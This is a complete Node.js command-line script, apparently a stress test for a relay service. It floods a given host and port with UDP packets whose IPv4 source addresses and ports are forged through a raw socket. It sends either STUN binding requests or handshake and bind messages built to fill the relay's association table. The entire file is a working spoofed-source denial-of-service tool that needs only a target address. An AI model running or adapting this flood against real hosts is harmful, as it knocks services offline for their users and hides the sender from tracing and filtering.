/**
 * Datagrams from forged IPv4 addresses, by a raw socket: `forged-flood.mjs HOST PORT RATE SECONDS KIND`. KIND is `stun`
 * (binding requests) or `handshakes` (initiations, and binds for associations that may be there). Prints `flooding`, and how
 * many were sent.
 */
import { randomBytes } from 'node:crypto';
import koffi from 'koffi';

const [host, port, rate, seconds, kind] = process.argv.slice(2);
const libc = koffi.load('libc.so.6');
const socket = libc.func('int socket(int, int, int)');
const sendto = libc.func('long sendto(int, void *, size_t, int, void *, uint32)');
const [AF_INET, SOCK_RAW, IPPROTO_RAW] = [2, 3, 255];
const fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
if (fd < 0) throw new Error('no raw socket');

const to = Buffer.alloc(16);
to.writeUInt16LE(AF_INET, 0);
const destination = Buffer.from(host.split('.').map(Number));
destination.copy(to, 4);

/** IPv4 header 20, UDP header 8 without checksum. */
function datagram(payload) {
  const packet = Buffer.alloc(28 + payload.length);
  packet[0] = 0x45;
  packet[8] = 64;
  packet[9] = 17;
  destination.copy(packet, 16);
  packet.writeUInt16BE(Number(port), 22);
  packet.writeUInt16BE(8 + payload.length, 24);
  payload.copy(packet, 28);
  return packet;
}

/** With SOFTWARE: room for the answer (wire/stun.ts). */
function stun() {
  const payload = Buffer.alloc(48);
  payload.writeUInt16BE(1, 0);
  payload.writeUInt16BE(28, 2);
  payload.writeUInt32BE(0x2112a442, 4);
  payload.writeUInt16BE(0x8022, 20);
  payload.writeUInt16BE(24, 22);
  return payload;
}

function initiation() {
  const payload = randomBytes(600);
  payload.writeUInt32LE(0x0151, 0);
  return payload;
}

/** For one of the first places of the relay's table, with a counter above all before. */
function bind(i) {
  const payload = Buffer.alloc(50, 7);
  payload.writeUInt32LE(0x015a, 0);
  payload.writeUInt32LE(((randomBytes(2).readUInt16LE() << 16) | (i % 8)) >>> 0, 4);
  payload.writeBigUInt64LE(2n ** 40n + BigInt(i), 8);
  return payload;
}

const kinds = { stun: () => stun(), handshakes: (i) => (i % 2 === 0 ? initiation() : bind(i)) };
const packets = Array.from({ length: kind === 'stun' ? 1 : 1_024 }, (_, i) => datagram(kinds[kind](i)));
console.log('flooding');

let sent = 0;
const begun = Date.now();
const step = () => {
  const due = Math.min(rate * seconds, ((Date.now() - begun) * rate) / 1000);
  for (let i = 0; sent < due && i < 400; i++, sent++) {
    const packet = packets[sent % packets.length];
    // 20.0.0.0 and on: nobody's here.
    packet.writeUInt32BE((0x14000000 + ((sent * 2_654_435_761) % 0x30000000)) >>> 0, 12);
    packet.writeUInt16BE(1024 + (sent % 60_000), 20);
    sendto(fd, packet, packet.length, 0, to, to.length);
  }
  if (sent < rate * seconds) setTimeout(step, 2);
  else console.log(`sent ${sent}`);
};
step();
